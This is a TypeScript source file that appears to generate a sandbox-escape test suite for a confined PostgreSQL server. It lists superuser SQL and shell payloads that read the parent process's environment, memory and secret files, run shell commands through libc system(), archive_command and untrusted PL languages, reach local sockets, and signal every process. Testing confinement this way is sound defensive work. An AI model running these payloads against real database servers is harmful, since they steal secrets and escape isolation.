/** What hostile SQL tries with a superuser's rights, each once: to read what the parent knows, to reach it, to get out. */

/** Everything that an attacker could know of its parent, so that nothing is hidden by a mere name. */
export interface Victim {
  readonly pid: number;
  readonly home: string;
  readonly runnerTemp: string;
  readonly port: number;
  /** An address of the machine other than loopback; loopback where it has none. */
  readonly address: string;
  /** Folder of a socket called `.s.PGSQL.5432`, and the abstract one of the same shape. */
  readonly socketFolder: string;
  readonly abstractFolder: string;
  readonly sharedMemoryFile: string;
  /** Inherited by the parent from its own parent. */
  readonly descriptor: number;
  /** What a program prints where only its success shows. */
  readonly mark: string;
}

export interface Attack {
  readonly name: string;
  readonly statements: readonly string[];
  /** File whose existence afterwards is the success. */
  readonly makes?: string;
  /** Whether it must succeed where nothing confines it: it is proof that the attack works at all. */
  readonly isLive: boolean;
}

export function attacksOn(victim: Victim): readonly Attack[] {
  return [
    ...programs(victim).map(([name, command, isLive = true]) => ({
      name: `program: ${name}`,
      statements: [`copy loot from program ${literal(`{ ${command}; } 2>&1 | tr -d '\\\\\\000'; true`)}`],
      isLive,
    })),
    ...statements(victim),
    ...writes(victim),
    // The last one: it ends the server that it runs in.
    { name: "signal to everybody", statements: ["copy loot from program 'kill -USR2 -1'"], isLive: false },
  ];
}

type Program = readonly [name: string, command: string, isLive?: boolean];

function programs(victim: Victim): readonly Program[] {
  const { pid, home, runnerTemp, port, address, descriptor, mark } = victim;
  const perl = (code: string): string => `perl -e '${code}'`;
  const markIf = (condition: string): string => perl(`print "${mark}" if ${condition}`);
  return [
    ["parent's environment", `cat /proc/${pid}/environ`],
    ["every environment", "cat /proc/[0-9]*/environ"],
    ["parent's command line", `cat /proc/${pid}/cmdline`],
    ["file in the parent's home", `cat ${home}/secret`],
    ["names in the parent's home", `ls -a ${home}`],
    ["home by the parent's root", `cat /proc/${pid}/root${home}/secret`],
    ["home by the parent's cwd", `cat /proc/${pid}/cwd/secret`],
    ["file in RUNNER_TEMP", `cat ${runnerTemp}/secret`],
    ["names in RUNNER_TEMP", `ls -a ${runnerTemp}`],
    ["link out", `ln -s ${home}/secret link && cat link`],
    ["file beside the server's folder", `cat ../../secret ../../../secret ${runnerTemp}/*/../secret`],
    ["shared memory", `cat ${victim.sharedMemoryFile}`],
    ["inherited descriptor", `bash -c 'cat <&${descriptor}'`],
    ["descriptors of the parent", `cat /proc/${pid}/fd/${descriptor}`, false],
    ["memory of the parent", memory(pid), false],
    ["ptrace", markIf(`syscall(101,0x4206,${pid},0,0)==0`), false],
    ["process_vm_readv", markIf(`syscall(310,${pid},0,0,0,0,0)==0`), false],
    ["kcmp", markIf(`syscall(312,${pid},${pid},0,0,0)==0`), false],
    ["session keyring", markIf("syscall(250,0,-3,1)>0"), false],
    ["bpf", markIf("syscall(321,0,0,0)!=-1 || $!{EFAULT} || $!{EINVAL}"), false],
    ["userfaultfd", markIf("syscall(323,1)>=0"), false],
    ["io_uring", markIf("syscall(425,4,0)>=0 || $!{EFAULT}"), false],
    ["user namespace", `unshare -U sh -c 'echo ${mark}'`, false],
    ["namespace of the parent", `nsenter -t ${pid} -m sh -c 'echo ${mark}'`, false],
    ["vsock", markIf("socket(S,40,1,0)"), false],
    ["packet socket", markIf("socket(S,17,3,0)"), false],
    ["sudo", `sudo -n sh -c 'echo ${mark}'`, false],
    ["signal to the parent", `kill -USR2 ${pid}`],
    ["signal to the parent's group", `kill -USR2 -${pid}`, false],
    [
      "tcp on loopback",
      `exec 5<>/dev/tcp/127.0.0.1/${port} && echo hello >&5`.replace(/^/, "bash -c '") + "'",
    ],
    ["tcp on the machine's address", `bash -c 'exec 5<>/dev/tcp/${address}/${port} && echo hello >&5'`],
    ["socket by path", socket(`"${victim.socketFolder}/.s.PGSQL.5432"`)],
    ["abstract socket", socket(`"\\0${victim.abstractFolder}/.s.PGSQL.5432"`)],
    ["http", `curl -s -m 2 http://127.0.0.1:${port}/`, false],
    [
      "device of the disk",
      `for d in /dev/vda /dev/sda /dev/nvme0n1; do head -c 1 $d && echo ${mark}; done`,
      false,
    ],
    ["kernel's log", `dmesg | head -c 1 | grep -q . && echo ${mark}`, false],
    ["cgroup of the machine", `mkdir /sys/fs/cgroup/x && echo ${mark}`, false],
    ["remount", `mount -o remount,rw /usr && echo ${mark}`, false],
    ["raise the limits", `prlimit --nproc=100000:100000 true && echo ${mark}`, false],
  ];
}

function memory(pid: number): string {
  return `perl -e 'open M,"<","/proc/${pid}/maps" or exit; my @m=grep{/ rw/}<M>; open F,"<:raw","/proc/${pid}/mem" or exit; for(@m){/^(\\w+)-(\\w+)/;my($s,$e)=(hex $1,hex $2);next if $e-$s>1e8;sysseek F,$s,0;sysread F,my $b,$e-$s;print "$&\\n" if $b=~/ENV_[0-9a-f]{32}/}'`;
}

function socket(path: string): string {
  return `perl -MSocket -e 'socket(S,AF_UNIX,SOCK_STREAM,0); connect(S,pack_sockaddr_un(${path.replaceAll("\\0", "\\x00")})) and syswrite S,"hello"'`;
}

function statements(victim: Victim): readonly Attack[] {
  const { pid, home, runnerTemp, port, socketFolder, abstractFolder } = victim;
  const intoLoot = (expression: string): string => `insert into loot select (${expression})::text`;
  const readFile = (path: string): string =>
    intoLoot(`pg_catalog.encode(pg_catalog.pg_read_binary_file('${path}'), 'escape')`);
  const dblink = (way: string): readonly string[] => [
    "create extension if not exists dblink",
    `select * from dblink('${way} connect_timeout=2', 'select 1') as t(i int)`,
  ];
  const list: readonly (readonly [string, readonly string[], boolean?])[] = [
    ["pg_read_file of the environment", [readFile(`/proc/${pid}/environ`)]],
    ["pg_read_file in the home", [readFile(`${home}/secret`)]],
    ["pg_read_file in RUNNER_TEMP", [readFile(`${runnerTemp}/secret`)]],
    ["pg_read_file by the server's own root", [readFile(`/proc/self/root${runnerTemp}/secret`)]],
    ["pg_ls_dir of the home", [`insert into loot select pg_ls_dir('${home}')`]],
    ["copy from a file", [`copy loot from '${runnerTemp}/secret'`]],
    [
      "lo_import",
      [
        `select lo_import('${runnerTemp}/secret', 4711)`,
        "insert into loot select convert_from(lo_get(4711), 'UTF8')",
      ],
    ],
    [
      "file_fdw",
      [
        "create extension if not exists file_fdw",
        "create server files foreign data wrapper file_fdw",
        `create foreign table outside (t text) server files options (filename '${runnerTemp}/secret')`,
        "insert into loot select t from outside",
      ],
    ],
    ["dblink over tcp", dblink(`host=127.0.0.1 port=${port} sslmode=disable`)],
    ["dblink by a socket's path", dblink(`host=${socketFolder} port=5432`)],
    ["dblink by an abstract socket", dblink(`host=@${abstractFolder} port=5432`)],
    [
      "postgres_fdw",
      [
        "create extension if not exists postgres_fdw",
        `create server far foreign data wrapper postgres_fdw options (host '127.0.0.1', port '${port}', connect_timeout '2')`,
        "create user mapping for current_user server far options (user 'x', password 'x')",
        "create foreign table far_table (i int) server far",
        "select * from far_table",
      ],
    ],
    [
      "subscription",
      [
        `create subscription far_away connection 'host=127.0.0.1 port=${port} connect_timeout=2 dbname=x' publication p`,
      ],
    ],
    [
      "C function of the C library",
      [
        "create function sys(cstring) returns int as 'libc.so.6', 'system' language c strict",
        `select sys('cat ${home}/secret > stolen')`,
        "copy loot from program 'cat stolen'",
      ],
      false,
    ],
    [
      "internal function under another name",
      [
        "create function peek(text) returns text language internal strict as 'pg_read_file_all'",
        `insert into loot select peek('${runnerTemp}/secret')`,
      ],
      false,
    ],
    [
      "alter system: archive_command",
      [
        "alter system set archive_mode = on",
        `alter system set archive_command = 'cat ${home}/secret >stolen; false'`,
        "select pg_reload_conf(), pg_switch_wal(), pg_sleep(0.2)",
        "copy loot from program 'cat stolen'",
      ],
      false,
    ],
    [
      "alter system: ssl_passphrase_command",
      [
        `alter system set ssl_passphrase_command = 'cat ${home}/secret >stolen'`,
        "alter system set ssl_passphrase_command_supports_reload = on",
        "alter system set ssl = on",
        "select pg_reload_conf(), pg_sleep(0.2)",
        "copy loot from program 'cat stolen'",
      ],
      false,
    ],
    [
      "alter system: preloaded libraries and restore_command",
      [
        "alter system set session_preload_libraries = 'auto_explain'",
        "alter system set restore_command = 'true'",
        "alter system set listen_addresses = '*'",
        "alter system reset all",
        "select pg_reload_conf()",
      ],
      false,
    ],
    ...["plperlu", "plpython3u"].map((language): [string, readonly string[], boolean] => [
      `language ${language}`,
      [
        `create extension ${language}`,
        language === "plperlu"
          ? `create function ${language}_peek(text) returns text language plperlu as $$ open my $f, '<', $_[0]; local $/; return <$f>; $$`
          : `create function ${language}_peek(path text) returns text language plpython3u as $$ return open(path).read() $$`,
        `insert into loot select ${language}_peek('${runnerTemp}/secret')`,
        `insert into loot select ${language}_peek('${home}/secret')`,
      ],
      false,
    ]),
  ];
  return list.map(([name, sql, isLive = true]) => ({ name, statements: sql, isLive }));
}

function writes({ runnerTemp, home }: Victim): readonly Attack[] {
  const one = (name: string, statement: (path: string) => string, path = runnerTemp): Attack => {
    const makes = `${path}/written-by-${name.replaceAll(" ", "-")}`;
    return { name: `write: ${name}`, statements: [statement(makes)], makes, isLive: true };
  };
  return [
    one("program", (path) => `copy loot to program 'cat >${path}'`),
    one("program in home", (path) => `copy loot to program 'cat >${path}'`, home),
    one("copy to", (path) => `copy loot to '${path}'`),
    one(
      "lo_export",
      (path) => `do $$ begin perform lo_from_bytea(4712, 'x'); end $$; select lo_export(4712, '${path}')`,
    ),
    {
      name: "write: tablespace",
      statements: [`create tablespace outside location '${runnerTemp}/space'`],
      makes: `${runnerTemp}/space/PG_15_202209061`,
      isLive: true,
    },
    {
      name: "write: adminpack",
      statements: [
        "create extension if not exists adminpack",
        `select pg_file_write('${runnerTemp}/written-by-adminpack', 'x', false)`,
      ],
      makes: `${runnerTemp}/written-by-adminpack`,
      isLive: false,
    },
  ];
}

function literal(text: string): string {
  return `'${text.replaceAll("'", "''")}'`;
}
